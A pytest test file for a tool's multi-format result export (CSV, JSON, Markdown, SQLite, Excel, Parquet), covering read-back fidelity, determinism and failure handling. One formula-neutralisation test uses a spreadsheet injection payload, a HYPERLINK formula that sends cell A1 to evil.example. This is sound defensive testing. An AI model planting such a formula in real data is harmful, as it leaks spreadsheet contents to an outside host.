"""Exporting results: `indexdsl run --format csv,json,md,sqlite,xlsx,parquet`.

Every format is read back and compared with the Result computed by the pipeline (not
with an earlier output); the SQLite database is queried across two editions; formula
neutralisation is tested with a unit named `=HYPERLINK(...)`; the same inputs give the
same bytes apart from the time of the run; a failed write says why (E801), exits with 5
and leaves earlier results as they were.
"""

from __future__ import annotations

import csv
import datetime
import hashlib
import html
import io
import json
import math
import os
import re
import sqlite3
import sys
import types
import zipfile

import numpy as np
import pytest

from conftest import simple_index
from indexdsl import plugins
from indexdsl.components import Exporter
from indexdsl.diagnostics import PluginError
from indexdsl.hookspecs import hookimpl
from indexdsl.output import exports, writing
from indexdsl.output.results import group_summaries
from indexdsl.plugins import Registry, get_plugin_manager, load_registry
from indexdsl_builtins import export_md, export_sqlite

PAIRS = """
pairs p "Links" {
  from csv("pairs.csv")
  between a and b
  undirected
}
"""

HYPERLINK = '=HYPERLINK("https://example.com/x","click")'

#: key, label, region, published rank
UNITS = [
    ("a", "Alpha", "north", 3),
    ("b", HYPERLINK, "south", 1),
    ("@c", "Gamma | Co", "+east", 2),
    ("d", "Delta", "south", 4),
    ("e", "Epsilon", "north", 5),  # no pathways: mean(p.c) is missing
]
PAIR_ROWS = [
    ("a", "b", 3, 10, 5),
    ("b", "@c", 5, 30, 2),
    ("a", "@c", 1, 20, 9),
    ("@c", "d", 2, 5, 4),
]

ALL = "csv,json,md,sqlite,xlsx,parquet"


def csv_file(header, rows) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([header, *rows])
    return buffer.getvalue()


@pytest.fixture
def cities(project):
    """Five units, four pathways, two dimensions, groups and published ranks; one unit is
    labelled with a formula, one key and one group start with `@` and `+`."""
    text = simple_index(
        {
            "reach": 'sum(p.v) unit "routes"',
            "capacity": "sum(p.w)",
            "cost": "mean(p.c) lower is better",
        },
        """
        pathways p
        reference ranks c.published
        links "Links" 40% { reach }
        place "Place | size" 60% { capacity  cost }
        """,
        pairs=PAIRS,
    ).replace("  label name\n", "  label name\n  groups region\n")
    project.index(
        text,
        {
            "units.csv": csv_file(["id", "name", "region", "published"], UNITS),
            "pairs.csv": csv_file(["a", "b", "v", "w", "c"], PAIR_ROWS),
        },
    )
    return project


def computed(project, **parameters):
    """The Result of the pipeline, computed afresh."""
    from conftest import shared_registry
    from indexdsl.pipeline import Session, run_file

    result, _ = run_file(
        project.root / "index.idx",
        Session(registry=shared_registry()),
        {k: str(v) for k, v in parameters.items()},
    )
    return result


def value(x):
    """A score as the typed formats hold it: None when missing."""
    return None if np.isnan(x) else float(x)


def unit_expectations(result) -> dict[str, dict]:
    """Per unit key, the score and rank of every node, and the raw indicator values."""
    out = {}
    for i, key in enumerate(result.data.keys):
        row = {"label": result.data.labels[i]}
        for node in result.graph.node_order:
            row[f"{node}_score"] = value(result.units.scores[node][i])
            row[f"{node}_rank"] = int(result.units.ranks[node][i])
        out[key] = row
    return out


def pair_expectations(result) -> dict[tuple[str, str], dict]:
    keys, pairs = result.data.keys, result.pair_data
    out = {}
    for p in range(len(pairs.a)):
        row = {}
        for node in result.graph.node_order:
            row[f"{node}_score"] = value(result.pairs.scores[node][p])
            row[f"{node}_rank"] = int(result.pairs.ranks[node][p])
        out[(keys[pairs.a[p]], keys[pairs.b[p]])] = row
    return out


def assert_close(shown: dict, expected: dict) -> None:
    """Equal but for the last of 17 significant digits (a missing value is None in both)."""
    assert shown.keys() == expected.keys()
    for key, want in expected.items():
        got = shown[key]
        assert (got is None) == (want is None), key
        if want is not None:
            assert got == pytest.approx(want, rel=1e-15, abs=0), key


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def check_provenance(project, provenance: dict) -> None:
    assert provenance["index"] == {
        "file": "index.idx",
        "sha256": sha256(project.root / "index.idx"),
    }
    assert set(provenance["data"].values()) == {
        sha256(project.root / "units.csv"),
        sha256(project.root / "pairs.csv"),
    }
    assert provenance["versions"]["indexdsl"]


def run(project, *args) -> None:
    outcome = project.cli("run", "index.idx", "--quiet", *args)
    assert outcome.code == 0, outcome.err


class TestFormatOption:
    def test_default_is_csv_and_run_json(self, cities):
        run(cities, "--out", "out")
        assert sorted(p.name for p in (cities.root / "out").iterdir()) == [
            "availability.csv",
            "correlations.csv",
            "effective_weights.csv",
            "groups.csv",
            "indicators.csv",
            "nodes.csv",
            "pathways.csv",
            "run.json",
            "statistics.csv",
            "units.csv",
        ]

    def test_comma_separated_and_repeatable(self, cities):
        run(cities, "--out", "out", "--format", "json,md", "--format", "sqlite", "--only")
        assert sorted(p.name for p in (cities.root / "out").iterdir()) == [
            "results.json",
            "results.md",
            "results.sqlite",
            "run.json",
        ]

    def test_every_format(self, cities):
        pytest.importorskip("openpyxl", reason="openpyxl is optional (indexdsl[xlsx])")
        pytest.importorskip("pyarrow", reason="pyarrow is optional (indexdsl[parquet])")
        run(cities, "--out", "out", "--format", ALL)
        names = {p.name for p in (cities.root / "out").iterdir()}
        assert {
            "units.csv",
            "results.json",
            "results.md",
            "results.sqlite",
            "results.xlsx",
        } <= names
        assert {"units.parquet", "pathways.parquet", "groups.parquet"} <= names
        assert not [n for n in names if n.startswith(".")]  # no staging folder left

    def test_unknown_format_is_a_usage_error(self, cities):
        outcome = cities.cli("run", "index.idx", "--format", "csv,pdf")
        assert outcome.code == 2
        assert "`pdf` is not an output format (choose from csv, json, md, sqlite" in outcome.err
        assert not outcome.out  # nothing computed
        assert not (cities.root / "indexdsl-out").exists()

    def test_a_misspelt_format_gets_a_suggestion(self, cities):
        outcome = cities.cli("run", "index.idx", "--format", "jsno")
        assert outcome.code == 2
        assert (
            "`jsno` is not an output format; did you mean `json` (exporter from "
            "`indexdsl_builtins.export_json`)?"
        ) in outcome.err
        assert not (cities.root / "indexdsl-out").exists()

    def test_json_record_lists_the_outputs(self, cities):
        outcome = cities.cli(
            "run", "index.idx", "--json", "--out", "out", "--format", "md,sqlite", "--only"
        )
        record = json.loads(outcome.out)
        assert [p.rsplit("/", 1)[-1] for p in record["outputs"]] == [
            "results.md",
            "run.json",
            "results.sqlite",
        ]


class TestJson:
    def test_tables_match_the_result(self, cities):
        run(cities, "--out", "out", "--format", "json")
        document = json.loads((cities.root / "out" / "results.json").read_text(encoding="utf-8"))
        result = computed(cities)
        assert set(document["tables"]) == {"units", "groups", "indicators", "nodes", "pathways"} | {
            "availability", "statistics", "correlations", "effective_weights"
        }  # fmt: skip

        expected = unit_expectations(result)
        records = document["tables"]["units"]
        ranks = dict(zip(result.data.keys, result.units.ranks["t"], strict=True))
        assert [ranks[r["unit"]] for r in records] == [1, 2, 3, 4, 5]  # best first
        for record in records:
            assert record["region"] == dict((k, g) for k, _, g, _ in UNITS)[record["unit"]]
            assert {k: record[k] for k in expected[record["unit"]]} == expected[record["unit"]]
        assert records[1]["region"] == "+east"  # text as it is, not prefixed
        assert records[0]["label"] == HYPERLINK

        for record in document["tables"]["indicators"]:
            i = result.data.keys.index(record["unit"])
            for name in ("reach", "capacity", "cost"):
                assert record[name] == value(result.units.raw[name][i])
        assert document["tables"]["indicators"][4]["cost"] is None  # e: no partners

        pairs = pair_expectations(result)
        assert len(document["tables"]["pathways"]) == len(pairs) == 4
        for record in document["tables"]["pathways"]:
            expected_pair = pairs[(record["unit_a"], record["unit_b"])]
            assert {k: record[k] for k in expected_pair} == expected_pair

        nodes = {r["node"]: r for r in document["tables"]["nodes"]}
        assert nodes["place"]["title"] == "Place | size" and nodes["place"]["parent"] == "t"
        assert nodes["place"]["weight"] == result.graph.nodes["place"].weight
        assert nodes["cost"]["better"] == "lower" and nodes["reach"]["unit"] == "routes"
        assert nodes["t"]["parent"] is None and nodes["t"]["kind"] == "index"
        assert nodes["reach"]["illustrative"] is False

        groups = {
            (r["group_column"], r["group"], r["node"]): r for r in document["tables"]["groups"]
        }
        for column, group, node, stats in group_summaries(result):
            assert groups[(column, group, node)]["units"] == stats["units"]
            assert groups[(column, group, node)]["mean"] == pytest.approx(stats["mean"])
        north = [i for i, u in enumerate(UNITS) if u[2] == "north"]
        assert groups[("region", "north", "t")]["max"] == np.nanmax(result.units.scores["t"][north])

    def test_columns_are_those_of_the_csv_files(self, cities):
        run(cities, "--out", "out", "--format", "csv,json")
        out = cities.root / "out"
        document = json.loads((out / "results.json").read_text(encoding="utf-8"))
        for name, columns in document["columns"].items():
            header = next(csv.reader(io.StringIO((out / f"{name}.csv").read_text())))
            assert [c[0] for c in columns] == header, name
            assert all(c[1] in ("text", "integer", "real", "boolean") for c in columns)
        # and the rows come in the same order
        units_csv = list(csv.DictReader(io.StringIO((out / "units.csv").read_text())))
        keys = [r["unit"].removeprefix("'") for r in units_csv]
        assert keys == [r["unit"] for r in document["tables"]["units"]]

    def test_run_record_and_provenance(self, cities):
        run(cities, "--out", "out", "--format", "json")
        document = json.loads((cities.root / "out" / "results.json").read_text(encoding="utf-8"))
        record = document["run"]
        check_provenance(cities, record["provenance"])
        assert record["index"]["name"] == "t" and record["units"]["count"] == 5
        assert datetime.datetime.fromisoformat(record["time"]).tzinfo is not None
        run_json = json.loads((cities.root / "out" / "run.json").read_text())
        assert record["provenance"] == run_json["provenance"]


def markdown_tables(text: str) -> dict[str, list[list[str]]]:
    """Each Markdown table under its nearest heading, cells unescaped."""
    tables: dict[str, list[list[str]]] = {}
    heading = None
    for line in text.splitlines():
        if line.startswith("#"):
            heading = html.unescape(re.sub(r"\\(.)", r"\1", line.lstrip("#").strip()))
        elif line.startswith("|") and not line.startswith("|-") and not line.startswith("|---"):
            cells = re.split(r"(?<!\\)\|", line.strip()[1:-1])
            cells = [html.unescape(re.sub(r"\\(.)", r"\1", c.strip())) for c in cells]
            tables.setdefault(heading, []).append(cells)
    return tables


class TestMarkdown:
    def test_rankings_groups_and_pathways_match_the_result(self, cities):
        run(cities, "--out", "out", "--format", "md")
        text = (cities.root / "out" / "results.md").read_text(encoding="utf-8")
        result = computed(cities)
        tables = markdown_tables(text)
        labels = dict(zip(result.data.keys, result.data.labels, strict=True))

        overall = tables["Test index: overall ranking"]
        assert overall[0] == ["rank", "Cities", "region", "score", "published rank", "Δ"]
        order = np.argsort(-np.nan_to_num(result.units.scores["t"], nan=-1e9), kind="stable")
        assert [row[1] for row in overall[1:]] == [result.data.labels[i] for i in order]
        for row in overall[1:]:
            i = result.data.labels.index(row[1])
            assert row[0] == str(result.units.ranks["t"][i])
            assert row[3] == f"{result.units.scores['t'][i]:.2f}"
            assert row[4] == str(UNITS[i][3])
        assert overall[1][1] == HYPERLINK  # escaped for Markdown, then read back as written

        for node, heading in (("links", "Links (40%)"), ("place", "Place | size (60%)")):
            rows = tables[heading][1:]
            assert [r[0] for r in rows] == sorted(
                (r[0] for r in rows), key=lambda r: int(r) if r != "–" else 10**9
            )
            for row in rows:
                i = result.data.labels.index(row[1])
                score = result.units.scores[node][i]
                assert row[2] == ("–" if np.isnan(score) else f"{score:.2f}")

        by_region = {r[0]: r for r in tables["By region"][1:]}
        for _, group, node, stats in group_summaries(result):
            if node == "t":
                assert by_region[group][1:3] == [str(stats["units"]), f"{stats['mean']:.2f}"]

        pathways = tables["Top 4 pathways"]
        assert pathways[0] == ["rank", "pathway", "score", "Links", "Place | size"]
        expected = pair_expectations(result)
        shown = {}
        for (a, b), row in expected.items():
            shown[f"{labels[a]} – {labels[b]}"] = row
        for row in pathways[1:]:
            assert row[2] == f"{shown[row[1]]['t_score']:.2f}"
            assert row[0] == str(shown[row[1]]["t_rank"])

    def test_provenance_is_at_the_end(self, cities):
        run(cities, "--out", "out", "--format", "md")
        text = (cities.root / "out" / "results.md").read_text(encoding="utf-8")
        provenance = text[text.index("## Provenance") :]
        assert sha256(cities.root / "index.idx") in provenance
        assert sha256(cities.root / "units.csv") in provenance
        assert re.search(r"^- computed: \d{4}-\d\d-\d\dT", provenance, re.M)

    def test_markdown_and_html_in_names_are_escaped(self):
        assert export_md.md_text("a|b") == "a\\|b"
        assert export_md.md_text("<script>x</script>") == "&lt;script&gt;x&lt;/script&gt;"
        assert export_md.md_text("two\nlines") == "two lines"
        assert export_md.md_text("*bold* [link](u)") == "\\*bold\\* \\[link\\](u)"


def query(database, sql, *args) -> list[tuple]:
    with sqlite3.connect(database) as connection:
        return connection.execute(sql, args).fetchall()


class TestSqlite:
    def test_schema(self, cities):
        run(cities, "--out", "out", "--format", "sqlite")
        database = cities.root / "out" / "results.sqlite"
        tables = {
            r[0] for r in query(database, "SELECT name FROM sqlite_master WHERE type = 'table'")
        }
        assert tables == {"runs", "units", "nodes", "scores", "indicators", "pathways", "groups"}

        def columns(table):
            return [r[1] for r in query(database, f'PRAGMA table_info("{table}")')]

        assert columns("runs") == [
            "run_id",
            "index_name",
            "title",
            "edition",
            "parameters",
            "provenance",
            "record",
            "time",
        ]
        assert columns("scores") == ["run_id", "level", "entity", "node", "score", "rank"]
        assert columns("units") == ["run_id", "unit", "label", "groups"]
        assert columns("pathways")[:4] == ["run_id", "pathway", "unit_a", "unit_b"]
        assert columns("groups")[:3] == ["run_id", "group_column", "group_name"]
        assert query(database, "PRAGMA user_version") == [(export_sqlite.SQLITE_SCHEMA_VERSION,)]
        # `groups` is a keyword of SQL window frames, yet works as a plain table name
        assert query(database, "SELECT count(*) FROM groups")[0][0] > 0

    def test_rows_match_the_result(self, cities):
        run(cities, "--out", "out", "--format", "sqlite")
        database = cities.root / "out" / "results.sqlite"
        result = computed(cities)
        [(run_id, name, title, edition, parameters, provenance, record, time)] = query(
            database, "SELECT * FROM runs"
        )
        assert (name, title, edition, json.loads(parameters)) == ("t", "Test index", "2024", {})
        check_provenance(cities, json.loads(provenance))
        assert json.loads(record)["units"] == {"name": "c", "count": 5}
        assert datetime.datetime.fromisoformat(time).tzinfo is not None

        scores = {
            (entity, node): (score, rank)
            for entity, node, score, rank in query(
                database, "SELECT entity, node, score, rank FROM scores WHERE level = 'unit'"
            )
        }
        assert len(scores) == 5 * len(result.graph.node_order)
        for key, row in unit_expectations(result).items():
            for node in result.graph.node_order:
                assert scores[(key, node)] == (row[f"{node}_score"], row[f"{node}_rank"])
        pairs = {
            (a, b): (score, rank)
            for a, b, score, rank in query(
                database, "SELECT unit_a, unit_b, score, rank FROM pathways"
            )
        }
        for (a, b), row in pair_expectations(result).items():
            assert pairs[(a, b)] == (row["t_score"], row["t_rank"])
            [(score,)] = query(
                database,
                "SELECT score FROM scores WHERE level = 'pair' AND node = 'links' AND entity = ?",
                f"{a} – {b}",
            )
            assert score == row["links_score"]
        units = query(database, "SELECT unit, label, json_extract(groups, '$.region') FROM units")
        assert sorted(units) == sorted((k, label, g) for k, label, g, _ in UNITS)
        raw = dict(
            query(database, "SELECT unit, value FROM indicators WHERE indicator = 'capacity'")
        )
        assert raw == {
            k: float(result.units.raw["capacity"][i]) for i, k in enumerate(result.data.keys)
        }
        nodes = query(database, "SELECT node, parent, weight FROM nodes ORDER BY position")
        assert [n for n, _, _ in nodes] == list(result.graph.node_order)

    @pytest.fixture
    def editions(self, project):
        """A tiny index with one edition per year: the column read depends on `year`."""
        text = simple_index({"x": "c.x_{year}", "y": "c.y"}, "x\ny").replace(
            "units c", 'parameter year "Data year" = 2022\n\nunits c'
        )
        project.index(
            text,
            {
                "units.csv": csv_file(
                    ["id", "name", "x_2021", "x_2022", "y"],
                    [("u0", "U0", 1, 9, 5), ("u1", "U1", 2, 1, 4), ("u2", "U2", 3, 5, 6)],
                )
            },
        )
        return project

    CROSS_RUN = """
        SELECT a.entity, a.rank, b.rank, a.score, b.score
        FROM scores a
        JOIN runs ra ON ra.run_id = a.run_id
        JOIN scores b ON b.entity = a.entity AND b.node = a.node AND b.level = a.level
        JOIN runs rb ON rb.run_id = b.run_id
        WHERE ra.index_name = 't' AND rb.index_name = 't'
          AND json_extract(ra.parameters, '$.year') = 2021
          AND json_extract(rb.parameters, '$.year') = 2022
          AND a.level = 'unit' AND a.node = 't'
        ORDER BY a.entity
    """

    def check_cross_run(self, project, database):
        old, new = computed(project, year=2021), computed(project, year=2022)
        assert query(database, "SELECT count(*) FROM runs") == [(2,)]
        rows = query(database, self.CROSS_RUN)
        assert [r[0] for r in rows] == ["u0", "u1", "u2"]
        for i, (_, rank_2021, rank_2022, score_2021, score_2022) in enumerate(rows):
            assert (rank_2021, rank_2022) == (old.units.ranks["t"][i], new.units.ranks["t"][i])
            assert (score_2021, score_2022) == (old.units.scores["t"][i], new.units.scores["t"][i])
        assert [r[1] for r in rows] != [r[2] for r in rows]  # the editions do differ

    def test_two_editions_appended_to_one_database(self, editions):
        run(editions, "--out", "out", "--format", "sqlite", "--only", "--set", "year=2021")
        run(editions, "--out", "out", "--format", "sqlite", "--set", "year=2022")
        self.check_cross_run(editions, editions.root / "out" / "results.sqlite")

    def test_several_editions_in_one_command_share_one_database(self, editions):
        run(editions, "--out", "out", "--format", "sqlite,csv", "--set", "year=2021,2022")
        out = editions.root / "out"
        assert (out / "year=2021" / "units.csv").exists()
        assert not (out / "year=2021" / "results.sqlite").exists()
        self.check_cross_run(editions, out / "results.sqlite")

    def test_the_same_inputs_replace_their_earlier_rows(self, editions):
        for _ in range(2):
            run(editions, "--out", "out", "--format", "sqlite", "--set", "year=2021")
        database = editions.root / "out" / "results.sqlite"
        assert query(database, "SELECT count(*) FROM runs") == [(1,)]
        assert query(database, "SELECT count(*) FROM scores") == [(3 * 3,)]

    def test_a_failed_append_leaves_the_database_as_it_was(self, editions, monkeypatch):
        run(editions, "--out", "out", "--format", "sqlite", "--only", "--set", "year=2021")
        database = editions.root / "out" / "results.sqlite"
        before = {t: query(database, f'SELECT * FROM "{t}"') for t in export_sqlite.SQLITE_TABLES}
        real = export_sqlite.sqlite_rows

        def broken(*args):
            rows = real(*args)
            rows["indicators"].append(("too", "few"))  # fails after the other inserts
            return rows

        monkeypatch.setattr(export_sqlite, "sqlite_rows", broken)
        outcome = editions.cli(
            "run", "index.idx", "-q", "--out", "out", "--format", "sqlite,csv", "--set", "year=2022"
        )
        assert outcome.code == 5
        assert "error[E801]: cannot write the database `out/results.sqlite`: Incorrect" in (
            outcome.err
        )
        assert {
            t: query(database, f'SELECT * FROM "{t}"') for t in export_sqlite.SQLITE_TABLES
        } == before
        assert not (editions.root / "out" / "units.csv").exists()  # no file moved either

    def test_a_database_that_is_not_ours_is_refused(self, cities):
        out = cities.root / "out"
        out.mkdir()
        (out / "results.sqlite").write_text("my notes")
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "sqlite")
        assert outcome.code == 5
        assert "is not an indexdsl results database" in outcome.err
        assert (out / "results.sqlite").read_text() == "my notes"
        with sqlite3.connect(out / "other.sqlite") as connection:
            connection.execute("CREATE TABLE runs (id)")
        with pytest.raises(exports.OutputError, match="not an indexdsl results database"):
            export_sqlite.write_sqlite(out / "other.sqlite", {})
        assert query(out / "other.sqlite", "PRAGMA user_version") == [(0,)]


class TestXlsx:
    def test_sheets_match_the_result(self, cities):
        openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is optional (indexdsl[xlsx])")
        run(cities, "--out", "out", "--format", "xlsx")
        workbook = openpyxl.load_workbook(cities.root / "out" / "results.xlsx")
        assert workbook.sheetnames[:6] == [
            "units",
            "groups",
            "indicators",
            "normalised",
            "nodes",
            "pathways",
        ]
        assert workbook.sheetnames[-1] == "run"
        result = computed(cities)
        # the headers are titles: `Links (score)` is `links_score`, `C` the unit's key
        codes = {"C": "unit", "Name": "label", "C A": "unit_a", "C B": "unit_b"}
        for node in result.graph.node_order:
            for suffix in ("score", "rank"):
                codes[f"{result.graph.nodes[node].title} ({suffix})"] = f"{node}_{suffix}"
        for name, indicator in result.graph.model.indicators.items():  # `reach (routes)`
            title = indicator.title or name
            codes[f"{title} ({indicator.unit})" if indicator.unit else title] = name

        def records(sheet):
            rows = list(workbook[sheet].iter_rows(values_only=True))
            names = [codes.get(h, h) for h in rows[0]]
            return [dict(zip(names, row, strict=True)) for row in rows[1:]]

        def shown(expected: dict) -> dict:  # rank 0, "not ranked", is an empty cell
            return {k: v or None if k.endswith("_rank") else v for k, v in expected.items()}

        # openpyxl writes numbers with 16 significant digits: equal to 1e-15
        expected = unit_expectations(result)
        for record in records("units"):
            numbers = shown(expected[record["unit"]])
            assert record["label"] == numbers.pop("label")
            assert_close({k: record[k] for k in numbers}, numbers)
            assert all(type(record[k]) is int for k in numbers if k.endswith("_rank") and record[k])
        pairs = pair_expectations(result)
        for record in records("pathways"):
            expected_pair = shown(pairs[(record["unit_a"], record["unit_b"])])
            assert_close({k: record[k] for k in expected_pair}, expected_pair)
        raw = {r["unit"]: r for r in records("indicators")}
        assert raw["e"]["cost"] is None and raw["e"]["reach"] == result.units.raw["reach"][4]
        assert {r["Node"] for r in records("nodes")} == set(result.graph.node_order)

        run_sheet = {r["Field"]: r["Value"] for r in records("run")}
        assert run_sheet["Index file SHA-256"] == sha256(cities.root / "index.idx")
        assert sha256(cities.root / "units.csv") in run_sheet.values()

    def test_formulas_are_stored_as_text(self, cities):
        openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is optional (indexdsl[xlsx])")
        run(cities, "--out", "out", "--format", "xlsx")
        path = cities.root / "out" / "results.xlsx"
        workbook = openpyxl.load_workbook(path)
        sheet = workbook["units"]
        cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
        for text in (HYPERLINK, "@c", "+east"):
            cell = cells[text]  # the value as written, not prefixed with '
            assert cell.data_type == "s" and cell.quotePrefix, text
        assert cells["Alpha"].data_type == "s" and not cells["Alpha"].quotePrefix
        with zipfile.ZipFile(path) as archive:
            xml = "".join(archive.read(n).decode() for n in archive.namelist() if "worksheets" in n)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere

    def test_missing_openpyxl_is_explained_before_anything_is_written(self, cities, monkeypatch):
        monkeypatch.setitem(sys.modules, "openpyxl", None)  # import fails
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "csv,xlsx")
        assert outcome.code == 2
        assert 'pip install "indexdsl[xlsx]"' in outcome.err
        assert not (cities.root / "out").exists()


class TestParquet:
    def test_tables_match_the_result(self, cities):
        pq = pytest.importorskip(
            "pyarrow.parquet", reason="pyarrow is optional (indexdsl[parquet])"
        )
        run(cities, "--out", "out", "--format", "parquet")
        out = cities.root / "out"
        result = computed(cities)
        units = pq.read_table(out / "units.parquet")
        assert str(units.schema.field("t_rank").type) == "int64"
        assert str(units.schema.field("t_score").type) == "double"
        expected = unit_expectations(result)
        for record in units.to_pylist():
            assert {k: record[k] for k in expected[record["unit"]]} == expected[record["unit"]]
        pairs = pair_expectations(result)
        for record in pq.read_table(out / "pathways.parquet").to_pylist():
            expected_pair = pairs[(record["unit_a"], record["unit_b"])]
            assert {k: record[k] for k in expected_pair} == expected_pair
        nodes = pq.read_table(out / "nodes.parquet")
        assert nodes.column("illustrative").to_pylist() == [False] * len(result.graph.node_order)
        groups = pq.read_table(out / "groups.parquet").to_pylist()
        assert {(g["group_column"], g["group"], g["node"]) for g in groups} == {
            (c, g, n) for c, g, n, _ in group_summaries(result)
        }
        metadata = pq.read_metadata(out / "indicators.parquet").metadata
        record = json.loads(metadata[b"indexdsl.run"])
        check_provenance(cities, record["provenance"])
        assert "time" in record and metadata[b"indexdsl.run_id"] == exports.run_id(record).encode()

    def test_missing_pyarrow_is_explained(self, cities, monkeypatch):
        monkeypatch.setitem(sys.modules, "pyarrow", None)
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "parquet")
        assert outcome.code == 2
        assert 'pip install "indexdsl[parquet]"' in outcome.err


class TestFormulaNeutralisation:
    def test_a_unit_named_hyperlink(self, project):
        key = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
        project.index(
            simple_index({"x": "c.x"}, "x"),
            {"units.csv": csv_file(["id", "name", "x"], [(key, "-1 label", 1), ("ok", "@ok", -2)])},
        )
        run(project, "--out", "out", "--format", "csv,json,sqlite")
        out = project.root / "out"
        rows = list(csv.DictReader(io.StringIO((out / "units.csv").read_text(encoding="utf-8"))))
        assert [(r["unit"], r["label"]) for r in rows] == [("'" + key, "'-1 label"), ("ok", "'@ok")]
        assert float(rows[1]["t_score"]) == 0.0
        # a negative number is a number, not text to neutralise
        indicators = list(csv.DictReader(io.StringIO((out / "indicators.csv").read_text())))
        assert indicators[1]["x"] == "-2.0"
        # formats that keep types hold the text as it is
        document = json.loads((out / "results.json").read_text(encoding="utf-8"))
        assert document["tables"]["units"][0]["unit"] == key
        assert query(out / "results.sqlite", "SELECT label FROM units ORDER BY unit") == [
            ("-1 label",),
            ("@ok",),
        ]


def frozen_clock(when: datetime.datetime) -> types.SimpleNamespace:
    """Stands for `results._dt`: a clock that gives the time asked for."""

    class Clock(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return when

    return types.SimpleNamespace(datetime=Clock, UTC=datetime.UTC)


TIME = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\+00:00|Z)")


def installed_formats() -> str:
    """Every format whose library is installed (xlsx, parquet and html are optional)."""
    formats = ["csv", "json", "md", "sqlite"]
    registry = load_registry()
    for fmt in ("xlsx", "parquet", "html"):
        modules, _ = registry.get("exporter", fmt).cls.requires
        try:
            for module in (modules,) if isinstance(modules, str) else modules:
                __import__(module)
        except ImportError:
            continue
        formats.append(fmt)
    return ",".join(formats)


class TestDeterminism:
    def run_at(self, project, monkeypatch, when, out):
        monkeypatch.setattr(writing, "_dt", frozen_clock(when))
        run(project, "--out", out, "--format", installed_formats())

    def test_same_inputs_same_bytes_but_the_time(self, cities, monkeypatch):
        first = datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
        second = datetime.datetime(2025, 6, 7, 8, 9, 10, tzinfo=datetime.UTC)
        self.run_at(cities, monkeypatch, first, "one")
        self.run_at(cities, monkeypatch, second, "two")
        one, two = cities.root / "one", cities.root / "two"
        names = sorted(p.name for p in one.iterdir())
        assert names == sorted(p.name for p in two.iterdir())
        times = {b"2024-01-02T03:04:05", b"2025-06-07T08:09:10"}
        for name in names:
            a, b = (one / name).read_bytes(), (two / name).read_bytes()
            if name.endswith(".csv"):
                assert a == b, name
            elif name in ("run.json", "results.json", "results.md", "report.html") or (
                name.endswith(".parquet")
            ):
                # the time is the only difference: the same bytes once it is masked
                assert a != b, name
                assert {t[:19] for t in TIME.findall(a) + TIME.findall(b)} == times, name
                assert TIME.sub(b"TIME", a) == TIME.sub(b"TIME", b), name
            elif name == "results.xlsx":  # no time in it: the same bytes
                assert a == b, name
            elif name == "results.sqlite":
                for table in export_sqlite.SQLITE_TABLES:
                    sql = f'SELECT * FROM "{table}" ORDER BY 1, 2, 3, 4'
                    ra, rb = query(one / name, sql), query(two / name, sql)
                    if table == "runs":
                        assert [r[-1] for r in ra + rb] == [
                            "2024-01-02T03:04:05+00:00",
                            "2025-06-07T08:09:10+00:00",
                        ]
                        ra, rb = [r[:-1] for r in ra], [r[:-1] for r in rb]
                    assert ra == rb, table
            else:  # pragma: no cover - a new format must be added here
                raise AssertionError(f"unexpected output {name}")

    def test_the_same_time_gives_identical_files(self, cities, monkeypatch):
        when = datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.UTC)
        self.run_at(cities, monkeypatch, when, "one")
        self.run_at(cities, monkeypatch, when, "two")
        for path in (cities.root / "one").iterdir():
            if path.name != "results.sqlite":
                assert path.read_bytes() == (cities.root / "two" / path.name).read_bytes(), path


class TestFailures:
    def test_output_path_is_a_file(self, cities):
        (cities.root / "taken").write_text("a file")
        outcome = cities.cli("run", "index.idx", "-q", "--out", "taken", "--format", "json,sqlite")
        assert outcome.code == 5
        assert (
            "error[E801]: cannot write the results to `taken`: it, or a folder above it, is a file"
        ) in outcome.err
        assert "note: the operating system said: [Errno 17] File exists: `taken`" in outcome.err
        assert "Traceback" not in outcome.err and "internal error" not in outcome.err
        assert (cities.root / "taken").read_text() == "a file"

    def test_folder_not_writable(self, cities, monkeypatch):
        def refuse(*args, **kwargs):
            raise PermissionError(13, "Permission denied")

        monkeypatch.setattr(writing.tempfile, "mkdtemp", refuse)
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "md", "--only")
        assert outcome.code == 5
        assert "cannot write the results to `out`: Permission denied" in outcome.err

    def test_a_failure_leaves_earlier_results_untouched(self, cities, monkeypatch):
        run(cities, "--out", "out", "--format", "csv,json,md,sqlite")
        out = cities.root / "out"
        before = {p.name: p.read_bytes() for p in out.iterdir()}
        result = computed(cities)

        def fail(*args):
            raise ValueError("disk on fire")

        # a failure while rendering: nothing is written, the database is not touched; the
        # exporter that failed is named
        real_render = export_md.render_markdown
        monkeypatch.setattr(export_md, "render_markdown", fail)
        with pytest.raises(
            PluginError,
            match=r"exporter `md` \(plugin `indexdsl_builtins.export_md`\) failed: ValueError: disk on fire",
        ):
            writing.write_outputs(
                result, out, cities.root / "index.idx", [], None, ["csv", "md", "sqlite"]
            )
        assert {p.name: p.read_bytes() for p in out.iterdir()} == before
        monkeypatch.setattr(export_md, "render_markdown", real_render)

        # a failure while staging the files: nothing is moved into place
        real_write = type(out).write_text
        calls = []

        def flaky(self, *args, **kwargs):
            calls.append(self.name)
            if len(calls) == 3:
                raise OSError(28, "No space left on device")
            return real_write(self, *args, **kwargs)

        monkeypatch.setattr(type(out), "write_text", flaky)
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "csv,json,md")
        assert outcome.code == 5
        assert "cannot write the results to `out`: No space left on device" in outcome.err
        assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no staging left

    def test_a_folder_in_the_way(self, cities):
        (cities.root / "out" / "results.md").mkdir(parents=True)
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "md")
        assert outcome.code == 5
